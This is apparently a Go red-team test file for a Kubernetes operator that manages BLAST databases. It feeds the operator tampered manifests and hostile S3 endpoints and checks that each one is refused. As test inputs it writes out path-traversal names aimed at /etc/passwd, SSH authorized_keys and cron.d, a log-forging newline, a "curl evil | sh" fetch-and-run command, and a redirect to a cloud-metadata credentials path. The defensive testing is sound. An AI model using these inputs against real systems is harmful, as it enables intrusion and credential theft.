// the Job controller reports them) leaving a tampered manifest.json: the
// operator must refuse it when it reads it, never marking the database
// Ready.
func (h *harness) hostileManifest(name, input string, tamper func(m map[string]any, shards []any), want ...string) redRow {
	return redRow{category: "manifest", name: name, input: input, stoppedBy: byManifest,
		reason: "Sharding/WritingManifest, never Ready: " + strings.Join(want, " … "),
		arm: func() {
			m := manifestJSON(h.t, name)
			tamper(m, m["shards"].([]any))
			data, err := json.Marshal(m)
			if err != nil {
				h.t.Fatal(err)
			}
			h.putRaw("fasta/"+name+".fa", []byte(">s\nMKV\n"))
			h.putRaw(fmt.Sprintf("databases/%s/%s/%s", h.ns, name, manifest.FileName), data)
			h.create(h.database(name))
		},
		check: func() {
			h.eventually("database "+name+" refusing its manifest", 30*time.Second, func() (bool, string) {
				h.finishJobs(name)
				var db v1alpha1.BlastDatabase
				if err := h.c.Get(context.Background(), client.ObjectKey{Namespace: h.ns, Name: name}, &db); err != nil {
					return false, err.Error()
				}
				if db.Status.Phase == v1alpha1.DatabaseReady {
					h.t.Fatalf("database Ready on a hostile manifest: %s", conditionsOf(db.Status.Conditions))
				}
				cond := meta.FindStatusCondition(db.Status.Conditions, v1alpha1.ConditionReady)
				ok := db.Status.Phase == v1alpha1.DatabaseSharding && cond != nil && cond.Reason == "WritingManifest" &&
					strings.Contains(cond.Message, "reading the manifest")
				for _, w := range want {
					ok = ok && cond != nil && strings.Contains(cond.Message, w)
				}
				return ok, string(db.Status.Phase) + " " + describeCondition(cond)
			})
		}}
}

// finishJobs completes database name's Jobs that have not finished, as
// the Job controller would once their pods succeeded.
func (h *harness) finishJobs(name string) {
	h.t.Helper()
	for _, job := range h.databaseJobs(name) {
		if !jobFinished(&job) {
			h.finishJob(&job, true, "")
		}
	}
}

func jobFinished(job *batchv1.Job) bool {
	for _, c := range job.Status.Conditions {
		if (c.Type == batchv1.JobComplete || c.Type == batchv1.JobFailed) && c.Status == corev1.ConditionTrue {
			return true
		}
	}
	return false
}

func (h *harness) redManifests() []redRow {
	shard := func(shards []any, i int) map[string]any { return shards[i].(map[string]any) }
	file := func(shards []any, i int) map[string]any { return shard(shards, i)["files"].([]any)[0].(map[string]any) }
	rows := []redRow{
		h.hostileManifest("rt-mf-shard-name", "shards[1].name ../../x",
			func(_ map[string]any, s []any) { shard(s, 1)["name"] = "../../x" }, "shards[1].name", `"../../x"`),
		h.hostileManifest("rt-mf-ids-abs", "shards[0].idsFile /etc/passwd",
			func(_ map[string]any, s []any) { shard(s, 0)["idsFile"] = "/etc/passwd" }, "shards[0].idsFile", `"/etc/passwd"`),
		h.hostileManifest("rt-mf-dbname-slash", "shards[0].dbName tenant-b/nr (another database's volumes)",
			func(_ map[string]any, s []any) { shard(s, 0)["dbName"] = "tenant-b/nr" }, "shards[0].dbName", "tenant-b/nr"),
		h.hostileManifest("rt-mf-file-dotdot", "shards[1].files[0].name ../../../root/.ssh/authorized_keys",
			func(_ map[string]any, s []any) { file(s, 1)["name"] = "../../../root/.ssh/authorized_keys" }, "shards[1].files[0].name"),
		h.hostileManifest("rt-mf-name-newline", `name "nt\nINFO forged log line"`,
			func(m map[string]any, _ []any) { m["name"] = "nt\nINFO forged log line" }, "manifest: name"),
		h.hostileManifest("rt-mf-build", "build builds/../../tenant-b",
			func(m map[string]any, _ []any) { m["build"] = "builds/../../tenant-b" }, `build "builds/../../tenant-b" is not a folder builds/<id>`),
		h.hostileManifest("rt-mf-counts", "sequences 10, shards holding 5+5000000",
			func(_ map[string]any, s []any) { shard(s, 1)["sequences"] = 5000000 }, "shards hold 5000005 sequences", "header says 10"),
		h.hostileManifest("rt-mf-negative-size", "shards[0].files[0].size -1099511627776 (hides the database's size)",
			func(_ map[string]any, s []any) { file(s, 0)["size"] = -1 << 40 }, "shards[0].files[0]", "negative"),
		h.hostileManifest("rt-mf-unknown-field", `an unknown field "exec": "sh -c ..."`,
			func(m map[string]any, _ []any) { m["exec"] = "sh -c 'curl evil | sh'" }, `unknown field "exec"`),
	}
	return append(rows, h.engineManifests()...)
}

// engineRow is a manifest row the operator never reads (file hashes and
// sizes, a campaign's pinned manifest, replicas): the engine's own
// functions, called here on a real MinIO, must refuse it.
func (h *harness) engineRow(name, input, reason string, check func(t testing.TB)) redRow {
	return redRow{category: "manifest", name: name, input: input, stoppedBy: byEngine, reason: reason,
		check: func() { check(h.t) }}
}

func (h *harness) engineManifests() []redRow {
	ctx := context.Background()
	// shardStore holds a build's shard files as the manifest names them.
	shardStore := func(t testing.TB, prefix string, files map[string]string) {
		for name, data := range files {
			h.putRaw(prefix+"/"+name, []byte(data))
		}
	}
	return []redRow{
		h.engineRow("engine-sha-lies", "a shard file whose SHA-256 is not the manifest's", "cache refuses it after fetching twice: manifest says …",
			func(t testing.TB) {
				m := validManifest("rt-eng-sha")
				shardStore(t, "engine/sha", map[string]string{"shard-000.db.pin": "shard zerO", "shard-001.db.pin": "shard one"})
				c, err := cache.New(t.TempDir(), 0, h.store("engine/sha"), m)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := c.Acquire(ctx, 0); err == nil || !strings.Contains(err.Error(), "manifest says "+m.Shards[0].Files[0].SHA256) {
					t.Fatalf("Acquire of a shard whose file was swapped: %v, want a checksum refusal", err)
				}
			}),
		h.engineRow("engine-size-lies", "a manifest saying 10 bytes for an object of 8 MiB (fills the worker's disk)", "cache stops at the manifest's size: larger than the manifest's 10 bytes",
			func(t testing.TB) {
				m := validManifest("rt-eng-size")
				shardStore(t, "engine/size", map[string]string{"shard-000.db.pin": strings.Repeat("x", 8<<20)})
				c, err := cache.New(t.TempDir(), 0, h.store("engine/size"), m)
				if err != nil {
					t.Fatal(err)
				}
				_, err = c.Acquire(ctx, 0)
				if err == nil || !strings.Contains(err.Error(), "larger than the manifest's 10 bytes") {
					t.Errorf("Acquire: %v, want a refusal naming the manifest's size", err)
				}
				if got := c.Stats().BytesFetched; got > 2*(m.Shards[0].Files[0].Size+1) {
					t.Errorf("fetched %d bytes of a file the manifest says has %d", got, m.Shards[0].Files[0].Size)
				}
			}),
		h.engineRow("engine-path-in-cache", "a manifest built in code naming file ../../etc/cron.d/x (skipping Load)", "cache.New refuses the name",
			func(t testing.TB) {
				m := validManifest("rt-eng-path")
				m.Shards[1].Files[0].Name = "../../etc/cron.d/x"
				if _, err := cache.New(t.TempDir(), 0, h.store("engine/path"), m); err == nil || !strings.Contains(err.Error(), "../../etc/cron.d/x") {
					t.Errorf("cache.New: %v, want a refusal naming the file", err)
				}
			}),
		h.engineRow("engine-pinned-edited", "manifest.json edited after the campaign was planned", "manifest.ErrChanged: has SHA-256 …, the plan says …",
			func(t testing.TB) {
				st := h.store("engine/pinned")
				if err := manifest.Save(ctx, st, validManifest("rt-eng-pinned")); err != nil {
					t.Fatal(err)
				}
				_, sum, err := manifest.LoadCurrent(ctx, st)
				if err != nil {
					t.Fatal(err)
				}
				edited := validManifest("rt-eng-pinned")
				edited.Shards[0].Files[0].SHA256 = strings.Repeat("0", 64)
				if err := manifest.Save(ctx, st, edited); err != nil {
					t.Fatal(err)
				}
				if _, _, err := manifest.LoadPinned(ctx, st, manifest.FileName, sum); !errors.Is(err, manifest.ErrChanged) || !strings.Contains(err.Error(), "the plan says "+sum) {
					t.Errorf("LoadPinned of an edited manifest: %v, want ErrChanged", err)
				}
			}),
		h.engineRow("engine-replica-differs", "a replica whose copy of the build lists other files", "manifest.ErrReplica: replica … differs from build …",
			func(t testing.TB) {
				primary := validManifest("rt-eng-replica")
				primary.Build = "builds/b1"
				forged := validManifest("rt-eng-replica")
				forged.Build = "builds/b1"
				forged.Shards[1].Files[0].SHA256 = strings.Repeat("f", 64)
				replica := h.store("engine/replica")
				if err := manifest.Save(ctx, replica, forged); err != nil {
					t.Fatal(err)
				}
				err := manifest.CheckReplica(ctx, primary, replica)
				if !errors.Is(err, manifest.ErrReplica) || !strings.Contains(err.Error(), "differs from build builds/b1") {
					t.Errorf("CheckReplica: %v, want ErrReplica naming the difference", err)
				}
			}),
	}
}

// --- 5. Hostile endpoints ----------------------------------------------

// hostileFront is an S3 endpoint in front of MinIO, as an author may
// run one: GETs of a plan.json are answered by plan, every other request
// passes through (Host kept, so MinIO accepts the signature).
func (h *harness) hostileFront(plan http.HandlerFunc) (endpoint string, plans *atomic.Int64) {
	h.t.Helper()
	target, err := url.Parse(h.minio.Endpoint)
	if err != nil {
		h.t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	plans = new(atomic.Int64)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/"+ledger.PlanKey) {
			plans.Add(1)
			plan(w, r)
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	h.t.Cleanup(srv.Close)
	return srv.URL, plans
}

// frontedCampaign creates campaign name whose output is reached through
// endpoint.
func (h *harness) frontedCampaign(name, endpoint string) {
	h.t.Helper()
	h.putQueries(name)
	c := h.campaign(name, "sprot", 1)
	c.Spec.Output.Endpoint = endpoint
	h.create(c)
}

func (h *harness) redEndpoints() []redRow {
	var (
		endless, redirect   *atomic.Int64
		metadataHits        atomic.Int64
		trickle             *faultproxy.Proxy
		endlessEP, redirEP  string
		metadata            *httptest.Server
		stalledNS, stuckCmp = "rt-tenant-slow", "rt-stuck"
	)
	return []redRow{
		{category: "endpoint", name: "never-answers", input: "a store that holds every request for an hour",
			stoppedBy: byBounds + " (--store-request-timeout, --reconcile-timeout)", reason: "Ready=False: context deadline exceeded",
			arm: func() { h.slowTenant(stalledNS, stuckCmp) },
			check: func() {
				h.eventually("the stuck campaign reporting its store's deadline", 30*time.Second, func() (bool, string) {
					var c v1alpha1.SearchCampaign
					if err := h.c.Get(context.Background(), client.ObjectKey{Namespace: stalledNS, Name: stuckCmp}, &c); err != nil {
						return false, err.Error()
					}
					cond := meta.FindStatusCondition(c.Status.Conditions, v1alpha1.ConditionReady)
					return cond != nil && cond.Status == metav1.ConditionFalse && strings.Contains(cond.Message, "deadline exceeded"), describeCondition(cond)
				})
			}},
		{category: "endpoint", name: "trickles", input: "a store sending plan.json at 1 byte/s",
			stoppedBy: byBounds + " (--store-request-timeout)", reason: "Pending/LedgerUnreachable: context deadline exceeded",
			arm: func() {
				const name = "rt-trickle"
				p, err := faultproxy.Start(h.minio.Endpoint, 1, faultproxy.Faults{Bandwidth: 1,
					Only: func(r *http.Request) bool { return strings.HasSuffix(r.URL.Path, "/"+ledger.PlanKey) }})
				if err != nil {
					h.t.Fatal(err)
				}
				h.t.Cleanup(func() { p.Close() })
				trickle = p
				h.writePlan(name, "sprot", 3)
				h.frontedCampaign(name, p.URL)
			},
			check: func() {
				h.waitPlanRefused("rt-trickle", v1alpha1.CampaignPending, "LedgerUnreachable", "plan.json", "deadline exceeded")
				if c := trickle.Counts(); c.Slowed == 0 {
					h.t.Errorf("the proxy slowed nothing: %s", c)
				}
			}},
		{category: "endpoint", name: "endless-object", input: "a store answering GET plan.json with an endless body, no Content-Length",
			stoppedBy: byBounds + " (--max-object-bytes)", reason: fmt.Sprintf("Pending/ObjectTooLarge: more bytes, more than the %d bytes this reader allows", redTeamMaxObject),
			arm: func() {
				endlessEP, endless = h.hostileFront(func(w http.ResponseWriter, r *http.Request) {
					w.Header().Set("Content-Type", "application/json")
					w.Header().Set("ETag", `"endless"`)
					w.Header().Set("Last-Modified", time.Now().UTC().Format(http.TimeFormat))
					chunk := bytes.Repeat([]byte(" "), 64<<10)
					for sent := 0; sent < 64<<20 && r.Context().Err() == nil; sent += len(chunk) {
						if _, err := w.Write(chunk); err != nil {
							return
						}
						w.(http.Flusher).Flush()
					}
				})
				h.frontedCampaign("rt-endless", endlessEP)
			},
			check: func() {
				h.waitPlanRefused("rt-endless", v1alpha1.CampaignPending, "ObjectTooLarge", "plan.json", "more bytes",
					fmt.Sprintf("more than the %d bytes", redTeamMaxObject))
				if endless.Load() == 0 {
					h.t.Error("the endless plan.json was never asked for")
				}
			}},
		{category: "endpoint", name: "redirect-to-metadata", input: "an allowed store answering 307 to http://169.254.169.254-like /latest/meta-data/iam/",
			stoppedBy: "operator's S3 client (redirects not followed)", reason: "Pending/LedgerUnreachable; the redirect target gets no request",
			arm: func() {
				metadata = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					metadataHits.Add(1)
					fmt.Fprint(w, `{"AccessKeyId": "stolen"}`)
				}))
				h.t.Cleanup(metadata.Close)
				redirEP, redirect = h.hostileFront(func(w http.ResponseWriter, r *http.Request) {
					http.Redirect(w, r, metadata.URL+"/latest/meta-data/iam/security-credentials/", http.StatusTemporaryRedirect)
				})
				h.frontedCampaign("rt-redirect", redirEP)
			},
			check: func() {
				h.waitPlanRefused("rt-redirect", v1alpha1.CampaignPending, "LedgerUnreachable", "plan.json")
				h.eventually("the redirect answered more than once", 20*time.Second, func() (bool, string) {
					return redirect.Load() > 1, fmt.Sprint(redirect.Load())
				})
				if n := metadataHits.Load(); n != 0 {
					h.t.Errorf("the redirect's target got %d requests, want none", n)
				}
			}},
	}
}
